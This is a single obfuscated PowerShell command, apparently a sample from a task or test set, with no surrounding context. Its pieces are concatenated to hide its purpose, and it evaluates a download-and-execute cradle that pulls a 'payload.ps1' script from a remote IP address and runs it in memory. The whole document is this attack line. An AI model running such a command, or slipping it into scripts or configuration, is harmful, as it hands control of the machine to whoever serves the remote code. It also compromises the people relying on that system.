iex ('# '+'task 5704 v'+'3
IEX (New-Object Net.WebClient).DownloadString(''http://203.0.113.200/paylo'+'ad.ps1'')
')